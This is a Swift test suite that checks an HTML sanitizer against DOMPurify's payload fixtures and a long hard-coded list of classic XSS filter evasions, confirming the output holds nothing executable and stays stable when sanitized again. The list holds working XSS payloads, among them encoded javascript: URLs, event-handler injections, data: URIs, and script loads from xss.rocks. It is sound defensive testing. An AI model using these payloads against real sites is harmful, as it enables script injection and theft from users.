import Foundation
import FuzzHarnesses
import Sanitize
import Testing
import TestSupport

/// Every payload of DOMPurify's test suite, and the classic filter evasions, come out with nothing
/// executable, and sanitizing the output again changes nothing.
@Suite struct XSSTests {
    struct Payload: Decodable { let title: String?; let payload: String }
    struct PayloadFile: Decodable { let cases: [Payload] }

    static func dompurifyPayloads() throws -> [Payload] {
        let url = Fixtures.url("xss/dompurify-payloads.json")
        return try JSONDecoder().decode(PayloadFile.self, from: Data(contentsOf: url)).cases
    }

    @Test func dompurifyPayloadsComeOutSafeAndStable() throws {
        let payloads = try Self.dompurifyPayloads()
        #expect(payloads.count >= 200)
        let sanitizer = Sanitizer(baseURL: "https://example.com/news/1.html")
        for payload in payloads {
            let once = sanitizer.sanitize(html: payload.payload)
            #expect(SafetyCheck.problems(in: once) == [], "\(payload.title ?? "?"): \(once)")
            #expect(sanitizer.sanitize(html: once) == once, "\(payload.title ?? "?"): not stable: \(once)")
        }
    }

    static let evasions: [String] = [
        #"<a href="javascript:alert(1)">x</a>"#,
        #"<a href="JaVaScRiPt:alert(1)">x</a>"#,
        #"<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>"#,
        #"<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>"#,
        #"<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>"#,
        "<a href=\"jav\tascript:alert(1)\">x</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
        "<a href=\" &#14;  javascript:alert(1)\">x</a>",
        "<a href=\"java\0script:alert(1)\">x</a>",
        #"<a href="vbscript:msgbox(1)">x</a>"#,
        #"<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>"#,
        #"<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">"#,
        #"<svg onload=alert(1)>"#,
        #"<svg><script>alert(1)</script></svg>"#,
        #"<img src=x onerror=alert(1)>"#,
        #"<IMG SRC=x OnErRoR=alert(1)>"#,
        #"<img src="x" onerror="alert(1)"//>"#,
        #"<IMG SRC="javascript:alert('XSS');">"#,
        #"<IMG SRC=javascript:alert(&quot;XSS&quot;)>"#,
        #"<IMG """><SCRIPT>alert("XSS")</SCRIPT>">"#,
        #"<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>"#,
        #"<<SCRIPT>alert("XSS");//<</SCRIPT>"#,
        #"<SCRIPT SRC=http://xss.rocks/xss.js?< B >"#,
        #"<iframe src=http://xss.rocks/scriptlet.html <"#,
        #"<BODY ONLOAD=alert('XSS')>"#,
        #"<div style="width: expression(alert('XSS'));">x</div>"#,
        #"<p style="background-image: url(javascript:alert(1))">x</p>"#,
        #"<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>"#,
        #"<TABLE BACKGROUND="javascript:alert('XSS')"><TD BACKGROUND="javascript:alert('XSS')">"#,
        #"<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">"#,
        #"<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>"#,
        #"<math><mi xlink:href="javascript:alert(1)">x</mi></math>"#,
        #"<a href="jav&#x61;script&colon;alert(1)">x</a>"#,
        #"<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">"#,
        #"<LINK REL="stylesheet" HREF="javascript:alert('XSS');">"#,
        #"<BASE HREF="javascript:alert('XSS');//">"#,
        #"<scr<script>ipt>alert(1)</scr</script>ipt>"#,
        #"<a href=javascript&#58;alert(1)>x</a>"#,
        #"<p><a href="/a">a<a href="javascript:x">b</a></p>"#,
        #"<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>"#,
        #"<details open ontoggle=alert(1)>"#,
        #"<x onclick=alert(1)>click</x><custom-element onmouseover=alert(1)>y</custom-element>"#,
        #"<!--<img src="--><img src=x onerror=alert(1)//">"#,
        #"<noscript><p title="</noscript><img src=x onerror=alert(1)>">"#,
        #"<table><tr><td>a<style>*{}</style><script>x</script></td></tr></table>"#,
    ]

    @Test(arguments: evasions)
    func classicEvasionComesOutSafeAndStable(_ payload: String) {
        let sanitizer = Sanitizer(baseURL: "https://example.com/news/1.html")
        let once = sanitizer.sanitize(html: payload)
        #expect(SafetyCheck.problems(in: once) == [], "\(once)")
        #expect(sanitizer.sanitize(html: once) == once)
    }

    @Test func checkerCatchesWhatItMust() {
        #expect(!SafetyCheck.problems(in: #"<img src=x onerror=alert(1)>"#).isEmpty)
        #expect(!SafetyCheck.problems(in: #"<a href="javascript:alert(1)">x</a>"#).isEmpty)
        #expect(!SafetyCheck.problems(in: #"<script>alert(1)</script>"#).isEmpty)
        #expect(!SafetyCheck.problems(in: #"<a href="data:text/html,x">x</a>"#).isEmpty)
    }
}
